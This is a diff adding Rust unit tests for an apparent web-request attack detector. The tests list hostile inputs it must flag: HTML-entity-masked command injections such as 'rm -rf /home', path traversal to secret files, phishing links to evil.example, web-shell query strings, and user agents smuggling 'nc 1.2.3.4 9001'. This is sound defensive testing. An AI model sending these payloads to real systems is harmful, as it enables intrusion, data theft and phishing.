@@ -106,3 +106,72 @@ fn remapped_separators_streams_and_format_strings_fire() {
         assert!(of_text(text).is_empty(), "{text}: {:?}", of_text(text));
     }
 }
+
+/// What an exception for copied pages must not let through.
+#[test]
+fn attacks_in_the_clothes_of_a_page_fire() {
+    for text in [
+        "127.0.0.1&lt;whoami",
+        "x&gt;uname -a",
+        "x&gt;python3 -c 'import os'",
+        "x&quot;ls -la",
+        "x&gt;sleep 10",
+        "x&lt;cat secrets.txt",
+        "a&lt;rm -rf /home",
+        "x&nbsp;whoami",
+        "x&#59;sleep 10",
+        "<img src=\"../../../../../../srv/app/config.py\">",
+        "<src=\"../../../../../../home/user/secret.txt",
+        "</a><a href=\"//evil.example\">Click here to log in</a>",
+        "</div><div style=\"position:fixed;top:0;left:0\">login</div>",
+        "</a><img src=x>",
+        "<input id=\"q\" type=\"image\" src=\"//evil.example/x\">",
+        "<button class=\"x\" type=\"submit\" form=\"login\">",
+        "<code>alert()",
+    ] {
+        assert!(!of_text(text).is_empty(), "{text}");
+    }
+    for target in [
+        "/x.php?act=ls&d=%2Fvar%2Fwww",
+        "/x.php?act=ps",
+        "/x.php?c=df",
+        "/x.php?command=uptime",
+        "/.backup/db.sql.html",
+        "/.config/credentials.jpg",
+        "/?w=//00/",
+    ] {
+        assert!(!of_target(target).is_empty(), "{target}");
+    }
+    for agent in ["x; sleep 5", "x|nc 1.2.3.4 9001", "x; nc 10.0.0.1 4444", "x&&sleep 10"] {
+        let request = Request {
+            method: b"GET",
+            target: b"/",
+            user_agent: agent.as_bytes(),
+            ..Request::default()
+        };
+        assert!(!loud(&request).is_empty(), "{agent}");
+    }
+    let agent =
+        b"yacybot (-global; amd64 Linux; java 1.8.0_45; Europe/en) http://yacy.net/bot.html";
+    let request = Request { method: b"GET", target: b"/", user_agent: agent, ..Request::default() };
+    assert!(loud(&request).is_empty(), "{:?}", loud(&request));
+}
+
+#[test]
+fn programs_have_formats_and_members_of_their_own() {
+    for text in [
+        "sprintf('%02x:%02x:%02x:%02x:%02x:%02x', mac)",
+        "#%02x%02x%02x%02x",
+        "%04x-%04x-%04x-%04x",
+        "find . -printf \"%p %s %n %p\"",
+        "how to print \"%s%s%s%s\" in C",
+        "$self::$data",
+        "Foo\\Bar::$data",
+        "escape characters <'\">",
+        "['\"><]",
+    ] {
+        assert!(of_text(text).is_empty(), "{text}: {:?}", of_text(text));
+    }
+    // A list of so many is read once.
+    assert!(of_text(&"%s,".repeat(100_000)).is_empty());
+}
